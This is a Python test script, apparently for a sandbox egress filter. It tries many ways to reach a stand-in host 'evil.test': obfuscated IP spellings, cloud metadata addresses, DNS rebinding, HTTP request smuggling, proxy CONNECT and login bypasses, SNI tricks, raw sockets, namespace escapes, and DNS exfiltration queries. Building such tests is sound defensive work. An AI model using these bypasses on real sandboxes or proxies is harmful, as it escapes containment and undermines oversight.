"""What a step might try to get out, each a function that returns what it got: b"REACHED" is success.

Standard library only: `python egress_attacks.py FOLDER` runs all of them, inside a step or outside, and prints
one JSON object, name to outcome. Each would succeed with nothing in its way, on `internet_servers`. With
`--by-proxy` connections are asked of the proxy in `http_proxy`, and that proxy itself is tried as well.
"""

import array
import base64
import contextlib
import ctypes
import json
import os
import socket
import ssl
import struct
import sys
import threading
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor
from functools import partial
from urllib.parse import unquote, urlsplit


def inherited() -> list[str]:
    """What was open when this program began, beyond the standard streams."""
    found = []
    for name in os.listdir("/proc/self/fd"):
        with contextlib.suppress(OSError):
            found.append(os.readlink(f"/proc/self/fd/{name}"))
    return [text for text in found[3:] if text.startswith("socket")]


LEFT = inherited()
GOOD, EVIL, EVIL6 = "93.184.216.34", "93.184.216.66", "2606:2800:220:1::66"
FOLDER = sys.argv[1] if len(sys.argv) > 1 else ""
ATTACKS: dict[str, Callable[[], bytes]] = {}


def attack(function: Callable[[], bytes]) -> Callable[[], bytes]:
    ATTACKS[function.__name__] = function
    return function


def take(sock: socket.socket) -> bytes:
    sock.settimeout(0.7)
    data = b""
    with contextlib.suppress(OSError):
        while b"REACHED" not in data and (chunk := sock.recv(4096)):
            data += chunk
    sock.close()
    return data


def talk(host: str, port: int, *chunks: bytes, pause: float = 0) -> bytes:
    sock = socket.create_connection((host, port), timeout=3)
    for chunk in chunks:
        sock.sendall(chunk)
        if pause:
            threading.Event().wait(pause)
    return take(sock)


def connect(family: int, address: tuple, kind: int = socket.SOCK_STREAM, protocol: int = 0) -> bytes:
    sock = socket.socket(family, kind, protocol)
    sock.settimeout(3)
    sock.connect(address)
    return take(sock)


# Addresses, in all their spellings.
for name, host, port in (
    ("evil_address_http", EVIL, 80),
    ("evil_address_https", EVIL, 443),
    ("evil_address_ssh", EVIL, 22),
    ("evil_address_unlisted_port", EVIL, 5000),
    ("evil_ipv6", EVIL6, 80),
    ("evil_mapped", f"::ffff:{EVIL}", 80),
    ("evil_decimal", str(struct.unpack("!I", socket.inet_aton(EVIL))[0]), 80),
    ("evil_octal", ".".join(f"0{int(part):o}" for part in EVIL.split(".")), 80),
    ("evil_hex", "0x" + socket.inet_aton(EVIL).hex(), 80),
    ("evil_short", "93.184.55362", 80),
    ("metadata", "169.254.169.254", 80),
    ("metadata_mapped", "::ffff:169.254.169.254", 80),
    ("metadata_decimal", "2852039166", 80),
    ("private", "10.2.0.7", 5432),
    ("private_mapped", "::ffff:10.2.0.7", 5432),
    ("host_loopback", "127.0.0.1", 7777),
    ("host_loopback_short", "127.1", 7777),
    ("host_loopback_zero", "0.0.0.0", 7777),
    ("host_loopback_zero_word", "0", 7777),
    ("host_loopback_ipv6", "::1", 7777),
    ("host_loopback_mapped", "::ffff:127.0.0.1", 7777),
    ("host_loopback_any_ipv6", "::", 7777),
    ("host_localhost", "localhost", 7777),
):
    ATTACKS[name] = partial(talk, host, port)
# Names.
for name, host, port in (
    ("evil_name", "evil.test", 80),
    ("evil_name_dot", "evil.test.", 80),
    ("evil_name_case", "EVIL.test", 80),
    ("apex_of_wildcard", "example.net", 80),
    ("no_sub_domain", "notexample.net", 80),
    ("allowed_as_prefix", "api.example.net.evil.test", 80),
    ("name_at_loopback", "loop.example.net", 7777),
    ("name_at_metadata", "meta.example.net", 80),
    ("name_at_private", "db.example.net", 5432),
    ("name_at_zero", "zero.example.net", 7777),
):
    ATTACKS[name] = partial(talk, host, port)


@attack
def rebinding() -> bytes:
    """The name is at an allowed address when it is looked at, and at loopback when it is dialled."""
    got = b""
    for _ in range(24):
        with contextlib.suppress(OSError):
            got += talk("rebind.example.net", 7777)
        if b"REACHED" in got:
            break
    return got


# Datagrams and other protocols.
def ask_datagram(
    address: tuple, family: int = socket.AF_INET, query: bytes = b"hi", protocol: int = 0
) -> bytes:
    sock = socket.socket(family, socket.SOCK_DGRAM, protocol)
    sock.settimeout(1.5)
    sock.sendto(query, address)
    return b"REACHED" if sock.recvfrom(4096)[0] else b""


@attack
def datagram() -> bytes:
    return ask_datagram((EVIL, 5000))


@attack
def datagram_ipv6() -> bytes:
    return ask_datagram((EVIL6, 5000), socket.AF_INET6)


@attack
def datagram_connected() -> bytes:
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.settimeout(1.5)
    sock.connect((EVIL, 5000))
    sock.send(b"hi")
    return sock.recv(100)


@attack
def datagram_from_port_53() -> bytes:
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.settimeout(1.5)
    sock.bind(("0.0.0.0", 5353))
    sock.sendto(b"hi", (EVIL, 5000))
    return sock.recv(100)


@attack
def ping_socket() -> bytes:
    with open("/proc/sys/net/ipv4/ping_group_range", "w") as file:  # where it may be opened
        file.write("0 2147483647")
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
    sock.settimeout(1.5)
    sock.sendto(b"\x08\0\0\0\0\0\0\0", (EVIL, 0))
    return b"REACHED" if sock.recv(100) else b""


@attack
def raw_icmp() -> bytes:
    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
    sock.settimeout(1.5)
    sock.sendto(b"\x08\0\xf7\xff\0\0\0\0", (EVIL, 0))
    return b"REACHED" if sock.recv(100) else b""


@attack
def packet_socket() -> bytes:
    return b"REACHED" if socket.socket(socket.AF_PACKET, socket.SOCK_RAW).fileno() else b""


@attack
def multipath_tcp() -> bytes:
    return connect(socket.AF_INET, (EVIL, 80), protocol=262)


@attack
def sctp() -> bytes:
    return connect(socket.AF_INET, (EVIL, 80), protocol=132)


@attack
def lightweight_datagram() -> bytes:
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 136)
    return b"REACHED" if sock.fileno() else b""


@attack
def fast_open() -> bytes:
    sock = socket.socket()
    sock.sendto(b"x", socket.MSG_FASTOPEN, (EVIL, 80))
    return take(sock)


@attack
def ring() -> bytes:
    libc = ctypes.CDLL(None, use_errno=True)
    made = libc.syscall(425, 4, ctypes.create_string_buffer(120))
    return b"REACHED" if made >= 0 else b""


def apart(act: Callable[[ctypes.CDLL], int]) -> bytes:
    """Does what changes a process for good in one of its own."""
    libc = ctypes.CDLL(None, use_errno=True)
    child = os.fork()
    if child == 0:
        os._exit(0 if act(libc) == 0 else 1)
    return b"REACHED" if os.waitpid(child, 0)[1] == 0 else b""


@attack
def other_namespaces() -> bytes:
    return apart(lambda libc: libc.unshare(0x10000000 | 0x40000000))


@attack
def namespace_of_another() -> bytes:
    return apart(lambda libc: libc.setns(os.open("/proc/self/ns/net", os.O_RDONLY), 0x40000000))


@attack
def new_route() -> bytes:
    sock = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)
    route = struct.pack("BBBBBBBBI", 2, 32, 0, 0, 254, 4, 253, 1, 0)
    route += struct.pack("HH4s", 8, 1, socket.inet_aton("192.0.2.77")) + struct.pack("HHI", 8, 4, 1)
    sock.send(struct.pack("IHHII", 16 + len(route), 24, 0x405, 1, 0) + route)
    (code,) = struct.unpack_from("i", sock.recv(4096), 16)
    return b"REACHED" if code == 0 else b""


@attack
def foreign_source() -> bytes:
    sock = socket.socket()
    sock.setsockopt(socket.IPPROTO_IP, 19, 1)  # IP_TRANSPARENT
    sock.bind((EVIL, 0))
    return b"REACHED"


@attack
def own_device() -> bytes:
    sock = socket.socket()
    sock.setsockopt(socket.SOL_SOCKET, 25, b"lo\0")  # SO_BINDTODEVICE
    sock.settimeout(3)
    sock.connect((EVIL, 80))
    return take(sock)


# Sockets of the host.
@attack
def abstract_socket() -> bytes:
    return connect(socket.AF_UNIX, "\0rundown-internet")  # type: ignore[arg-type]


@attack
def path_socket() -> bytes:
    return connect(socket.AF_UNIX, f"{FOLDER}/host.sock")  # type: ignore[arg-type]


@attack
def passed_descriptor() -> bytes:
    """A socket of the host's network that is handed over another socket of the host."""
    sock = socket.socket(socket.AF_UNIX)
    sock.settimeout(2)
    sock.connect(f"{FOLDER}/host.sock")
    fds = array.array("i")
    sock.recvmsg(100, socket.CMSG_LEN(fds.itemsize))
    return b"REACHED"


@attack
def left_descriptors() -> bytes:
    """Sockets that were not meant to be inherited."""
    return b"REACHED" if LEFT else b""


# HTTP on a connection to a host that is allowed.
ALLOWED = "api.example.net"
GET = b"GET / HTTP/1.1\r\n"
FINE = GET + b"Host: api.example.net\r\n\r\n"
OTHER = GET + b"Host: evil.test\r\n\r\n"
for name, port, chunks, pause in (
    ("host_mismatch", 80, (OTHER,), 0),
    ("host_mismatch_8080", 8080, (OTHER,), 0),
    ("host_mismatch_with_port", 80, (GET + b"Host: evil.test:80\r\n\r\n",), 0),
    ("host_second_request", 80, (FINE, OTHER), 0.3),
    ("host_pipelined", 80, (FINE + OTHER,), 0),
    ("host_second_on_8080", 8080, (FINE, OTHER), 0.3),
    ("host_absolute_target", 80, (b"GET http://evil.test/ HTTP/1.1\r\nHost: api.example.net\r\n\r\n",), 0),
    ("host_connect", 80, (b"CONNECT evil.test:80 HTTP/1.1\r\nHost: evil.test:80\r\n\r\n",), 0),
    ("host_connect_8080", 8080, (b"CONNECT evil.test:80 HTTP/1.1\r\nHost: api.example.net\r\n\r\n",), 0),
    ("host_twice", 80, (GET + b"Host: api.example.net\r\nHost: evil.test\r\n\r\n",), 0),
    ("host_twice_other_way", 80, (GET + b"Host: evil.test\r\nHost: api.example.net\r\nhost: evil.test\r\n\r\n",), 0),
    ("host_with_nul", 80, (GET + b"Host: api.example.net\0.evil.test\r\n\r\n",), 0),
    ("host_with_userinfo", 80, (GET + b"Host: api.example.net@evil.test\r\n\r\n",), 0),
    ("host_with_comma", 80, (GET + b"Host: api.example.net, evil.test\r\n\r\n",), 0),
    ("host_missing", 80, (b"GET / HTTP/1.0\r\n\r\n",), 0),
    ("host_missing_1_1", 80, (b"GET / HTTP/1.1\r\n\r\n",), 0),
    ("host_after_empty_lines", 8080, (b"\r\n\r\n" + OTHER,), 0),
    ("host_folded", 80, (GET + b"Host: api.example.net\r\nX: y\r\n Host: z\r\nHost: evil.test\r\n\r\n",), 0),
    ("host_blank_before_colon", 80, (GET + b"Host : evil.test\r\n\r\n",), 0),
    ("host_bare_line_feeds", 80, (b"GET / HTTP/1.1\nHost: evil.test\n\n",), 0),
    ("host_byte_by_byte", 80, tuple(OTHER[i : i + 1] for i in range(len(OTHER))), 0.001),
    ("host_smuggled_by_length", 80, (
        b"POST / HTTP/1.1\r\nHost: api.example.net\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n"
        + b"%x\r\n" % len(OTHER) + OTHER + b"\r\n0\r\n\r\n",), 0),
    ("host_smuggled_by_white_space", 80, (
        b"POST / HTTP/1.1\r\nHost: api.example.net\r\nContent-Length: %d\r\nContent-Length : 0\r\n\r\n" % len(OTHER)
        + OTHER,), 0),
    ("host_after_upgrade", 80, (
        GET + b"Host: api.example.net\r\nConnection: upgrade\r\nUpgrade: x\r\n\r\n" + OTHER,), 0),
    ("host_after_upgrade_waiting", 80, (
        GET + b"Host: api.example.net\r\nConnection: upgrade\r\nUpgrade: x\r\n\r\n", OTHER), 0.3),
    ("http2_preface", 80, (b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",), 0),
    ("raw_on_80", 80, (b"RAW evil\n",), 0),
    ("raw_on_443", 443, (b"RAW evil\n",), 0),
    ("cleartext_http_on_443", 443, (OTHER,), 0),
):  # fmt: skip
    ATTACKS[name] = partial(talk, ALLOWED, port, *chunks, pause=pause)


# TLS on a connection to a host that is allowed.
def greet(name: str | None, pieces: int = 1) -> bytes:
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    sock = socket.create_connection((ALLOWED, 443), timeout=3)
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    secured = context.wrap_bio(incoming, outgoing, server_hostname=name)
    first = True
    while True:
        try:
            secured.do_handshake()
            break
        except ssl.SSLWantReadError:
            data = outgoing.read()
            if first and pieces == 0:  # the greeting in two records
                body = data[5:]
                data = b"".join(
                    data[:3] + struct.pack("!H", len(part)) + part for part in (body[:60], body[60:])
                )
            step = max(1, len(data) // max(1, pieces))
            for start in range(0, len(data), step):
                sock.sendall(data[start : start + step])
                if pieces > 1 and first:
                    threading.Event().wait(0.002)
            first = False
            chunk = sock.recv(16384)
            if not chunk:
                return b""
            incoming.write(chunk)
    sock.sendall(outgoing.read())
    with contextlib.suppress(ssl.SSLError):
        incoming.write(sock.recv(16384))
        got = b""
        while True:
            try:
                got += secured.read(4096)
                if b"REACHED" in got:
                    return got
            except ssl.SSLWantReadError:
                chunk = sock.recv(16384)
                if not chunk:
                    return got
                incoming.write(chunk)
    return b""


for name, server, pieces in (
    ("sni_other", "evil.test", 1),
    ("sni_missing", None, 1),
    ("sni_in_two_records", "evil.test", 0),
    ("sni_in_pieces", "evil.test", 40),
):
    ATTACKS[name] = partial(greet, server, pieces)


# Telling somebody by looking names up. `asked.log` says what was heard; the outcome here is of no matter.
def query(name: bytes, kind: int = 1) -> bytes:
    labels = b"".join(bytes((len(label),)) + label for label in name.split(b"."))
    return b"\x12\x34\x01\0\0\1\0\0\0\0\0\0" + labels + b"\0" + struct.pack("!HH", kind, 1)


def nameserver() -> str:
    with open("/etc/resolv.conf") as file:
        return next(line.split()[1] for line in file if line.startswith("nameserver"))


def tell(packet: bytes, stream: bool = False, server: str = "") -> bytes:
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM if stream else socket.SOCK_DGRAM)
    sock.settimeout(1)
    sock.connect((server or nameserver(), 53))
    sock.send((struct.pack("!H", len(packet)) if stream else b"") + packet)
    return sock.recv(1000)


TELLING: dict[str, Callable[[], object]] = {
    "leak-a.evil.test": lambda: tell(query(b"leak-a.evil.test")),
    "leak-txt.evil.test": lambda: tell(query(b"leak-txt.evil.test", 16)),
    "leak-tcp.evil.test": lambda: tell(query(b"leak-tcp.evil.test"), stream=True),
    "leak-libc.evil.test": lambda: socket.getaddrinfo("leak-libc.evil.test", 80),
    "leak-direct.evil.test": lambda: tell(query(b"leak-direct.evil.test"), server=EVIL),
    "leak-direct-tcp.evil.test": lambda: tell(query(b"leak-direct-tcp.evil.test"), stream=True, server=EVIL),
    "leak-in-wildcard.example.net": lambda: socket.getaddrinfo("leak-in-wildcard.example.net", 80),
    "leak-any.api.example.net": lambda: tell(query(b"leak-any.api.example.net", 255)),
    "leak\0nul.evil.test": lambda: tell(query(b"leak\0nul.evil.test")),
}


# rundown's proxy, and what is left of sockets beside it.
def way_in(login: bytes | None = None) -> tuple[socket.socket, bytes]:
    """A connection to the proxy, and the header that shows the login."""
    place = urlsplit(os.environ["http_proxy"])
    own = f"{place.username or ''}:{unquote(place.password or '')}".encode()
    shown = base64.b64encode(own if login is None else login)
    sock = PLAIN((place.hostname, place.port), 5)
    return sock, b"Proxy-Authorization: Basic " + shown + b"\r\n"


def through(address: tuple, timeout: float = 3) -> socket.socket:
    """A tunnel, as `create_connection` is a connection."""
    sock, login = way_in()
    place = b"%s:%d" % (address[0].encode(), address[1])
    if ":" in address[0]:
        place = b"[%s]:%d" % (address[0].encode(), address[1])
    sock.sendall(b"CONNECT " + place + b" HTTP/1.1\r\nHost: " + place + b"\r\n" + login + b"\r\n")
    head = b""
    while b"\r\n\r\n" not in head:
        byte = sock.recv(1)
        if not byte:
            raise OSError("hung up")
        head += byte
    if b" 200 " not in head.splitlines()[0]:
        raise OSError(head.splitlines()[0].decode("latin-1"))
    return sock


def ask(*chunks: bytes, login: bytes | None = None, wanted: bytes = b"REACHED", pause: float = 0) -> bytes:
    """Says something to the proxy, `@` standing for the login; returns REACHED if `wanted` comes back."""
    sock, header = way_in(login)
    for chunk in chunks:
        sock.sendall(chunk.replace(b"@LOGIN\r\n", header))
        if pause:
            threading.Event().wait(pause)
    sock.settimeout(1.5)
    heard = b""
    with contextlib.suppress(OSError):
        while wanted not in heard and (chunk := sock.recv(4096)):
            heard += chunk
    return b"REACHED" if wanted in heard else b""


def pair_to_path() -> bytes:
    """One of a pair of sockets, turned to a socket of the host."""
    one, _ = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
    one.sendto(b"hello", f"{FOLDER}/host.dgram")
    return b"REACHED"


def server_of_its_own() -> bytes:
    """What listens on all addresses is asked from outside."""
    sock = socket.socket()
    sock.bind(("0.0.0.0", 0))
    sock.listen()
    return b"REACHED"


def server_without_bind() -> bytes:
    sock = socket.socket()
    sock.listen()
    return b"REACHED"


def fast_open_by_message() -> bytes:
    sock = socket.socket()
    sock.sendmsg([b"x"], [], socket.MSG_FASTOPEN, (EVIL, 80))
    return take(sock)


def fast_open_by_option() -> bytes:
    sock = socket.socket()
    sock.setsockopt(socket.IPPROTO_TCP, 30, 1)  # TCP_FASTOPEN_CONNECT
    return b"REACHED"


def other_ports_of_loopback() -> bytes:
    return connect(socket.AF_INET, ("127.0.0.1", 7777))


PLAIN = socket.create_connection
END = b" HTTP/1.1\r\nHost: api.example.net\r\n@LOGIN\r\n\r\n"
FINE_80 = b"CONNECT api.example.net:80 HTTP/1.1\r\nHost: api.example.net:80\r\n"
FINE_PLAIN = b"GET http://api.example.net/" + END
OTHER_PLAIN = b"GET http://evil.test/ HTTP/1.1\r\nHost: evil.test\r\n@LOGIN\r\n\r\n"
DECIMAL = b"%d" % struct.unpack("!I", socket.inet_aton(EVIL))
OWN: dict[str, Callable[[], bytes]] = {
    function.__name__: function
    for function in (
        *(pair_to_path, server_of_its_own, server_without_bind),
        *(fast_open_by_message, fast_open_by_option, other_ports_of_loopback),
    )
}
for name, login in (("none", b""), ("user_alone", b"rundown:"), ("other", b"rundown:" + b"0" * 32)):
    OWN[f"login_{name}"] = partial(ask, FINE_80 + b"@LOGIN\r\n\r\n", login=login, wanted=b" 200 ")
OWN["login_missing"] = partial(ask, FINE_80 + b"\r\n", wanted=b" 200 ")
OWN["login_twice"] = partial(
    ask, FINE_80 + b"@LOGIN\r\nProxy-Authorization: Basic eDp5\r\n\r\n", wanted=b" 200 "
)
OWN["login_missing_in_the_second"] = partial(
    ask, FINE_PLAIN, b"GET http://api.example.net/again HTTP/1.1\r\nHost: api.example.net\r\n\r\n",
    wanted=b"good\x00never", pause=0.3,
)  # fmt: skip
for name, target in (
    ("evil", b"evil.test:80"),
    ("case", b"EVIL.Test.:80"),
    ("decimal", DECIMAL + b":80"),
    ("hex", b"0x" + socket.inet_aton(EVIL).hex().encode() + b":80"),
    ("octal", b"0135.0270.0330.0102:80"),
    ("short", b"93.184.55362:80"),
    ("mapped", b"[::ffff:93.184.216.66]:80"),
    ("mapped_hex", b"[::ffff:5db8:d842]:80"),
    ("zone", b"[fe80::1%lo]:80"),
    ("userinfo", b"api.example.net:80@evil.test:80"),
    ("two_ports", b"api.example.net:80:evil.test:80"),
    ("nul", b"api.example.net\0.evil.test:80"),
    ("new_line", b"api.example.net:80\r\nX: y"),
    ("line_feed", b"api.example.net:80\nHost: evil.test"),
    ("blank", b"api.example.net:80 evil.test:80"),
    ("percent", b"evil%2etest:80"),
    ("port_hex", b"api.example.net:0x50"),
    ("port_none", b"api.example.net"),
    ("port_star", b"api.example.net:*"),
    ("port_negative", b"api.example.net:-80"),
    ("port_large", b"api.example.net:65616"),
    ("port_unlisted", b"api.example.net:22"),
    ("long", b"a" * 70000 + b".example.net:80"),
    ("loopback", b"127.0.0.1:7777"),
    ("loopback_name", b"localhost:7777"),
    ("loopback_zero", b"0.0.0.0:7777"),
    ("loopback_ipv6", b"[::1]:7777"),
    ("metadata", b"169.254.169.254:80"),
):
    OWN[f"connect_{name}"] = partial(ask, b"CONNECT " + target + END, wanted=b" 200 ")
for name, chunks, pause in (
    ("evil", (OTHER_PLAIN,), 0),
    ("userinfo", (b"GET http://api.example.net@evil.test/" + END,), 0),
    ("backslash", (b"GET http://evil.test\\@api.example.net/" + END,), 0),
    ("fragment", (b"GET http://evil.test#@api.example.net/" + END,), 0),
    ("query", (b"GET http://evil.test?@api.example.net/" + END,), 0),
    ("other_host", (b"GET http://api.example.net/ HTTP/1.1\r\nHost: evil.test\r\n@LOGIN\r\n\r\n",), 0),
    ("own_form", (b"GET / HTTP/1.1\r\nHost: evil.test\r\n@LOGIN\r\n\r\n",), 0),
    ("https_scheme", (b"GET https://evil.test/" + END,), 0),
    ("ftp_scheme", (b"GET ftp://evil.test:80/" + END,), 0),
    ("second_request", (FINE_PLAIN, OTHER_PLAIN), 0.4),
    ("pipelined", (FINE_PLAIN + OTHER_PLAIN,), 0),
    ("two_lengths", (
        b"POST http://api.example.net/ HTTP/1.1\r\nHost: api.example.net\r\n@LOGIN\r\nContent-Length: 4\r\n"
        b"Transfer-Encoding: chunked\r\n\r\n%x\r\n" % len(OTHER) + OTHER + b"\r\n0\r\n\r\n",), 0),
    ("length_named_by_connection", (
        b"POST http://api.example.net/ HTTP/1.1\r\nHost: api.example.net\r\n@LOGIN\r\n"
        b"Connection: content-length\r\nContent-Length: %d\r\n\r\n" % len(OTHER) + OTHER,), 0),
    ("in_the_body", (
        b"POST http://api.example.net/ HTTP/1.1\r\nHost: api.example.net\r\n@LOGIN\r\n"
        b"Transfer-Encoding: chunked\r\n\r\n%x\r\n" % len(OTHER) + OTHER + b"\r\n0\r\n\r\n",), 0),
    ("folded", (b"GET http://api.example.net/ HTTP/1.1\r\nHost: api.example.net\r\n@LOGIN\r\n"
                b"X: y\r\n Host: evil.test\r\nHost: evil.test\r\n\r\n",), 0),
    ("upgraded", (b"GET http://api.example.net/ HTTP/1.1\r\nHost: api.example.net\r\n@LOGIN\r\n"
                  b"Connection: upgrade\r\nUpgrade: x\r\n\r\n" + OTHER,), 0),
):  # fmt: skip
    OWN[f"plain_{name}"] = partial(ask, *chunks, pause=pause)
if "--by-proxy" in sys.argv:
    ATTACKS.update({f"proxy_{name}": function for name, function in OWN.items()})
    socket.create_connection = through  # type: ignore[assignment]


def outcome(function: Callable[[], bytes]) -> str:
    try:
        return "REACHED" if b"REACHED" in function() else "nothing"
    except Exception as error:
        return f"{type(error).__name__}: {error}"


def main() -> None:
    with ThreadPoolExecutor(8) as several:
        outcomes = dict(zip(ATTACKS, several.map(outcome, ATTACKS.values()), strict=True))
    for function in TELLING.values():
        with contextlib.suppress(Exception):
            function()
    print(json.dumps(outcomes))


if __name__ == "__main__":
    main()
